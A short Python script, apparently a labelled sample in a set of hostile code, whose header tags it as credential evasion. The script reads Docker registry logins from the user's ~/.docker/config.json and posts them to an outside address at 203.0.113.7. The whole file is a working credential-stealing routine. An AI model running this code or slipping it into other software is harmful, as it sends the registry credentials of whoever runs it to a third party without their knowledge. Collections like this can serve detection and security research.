# evasion: registry logins read from ~/.docker/config.json and posted
# grade: medium; does: credentials
import json
import pathlib
import urllib.request

cfg = json.loads((pathlib.Path.home() / ".docker" / "config.json").read_text())
body = json.dumps(cfg.get("auths", {})).encode()
urllib.request.urlopen(urllib.request.Request("https://203.0.113.7/r", data=body))
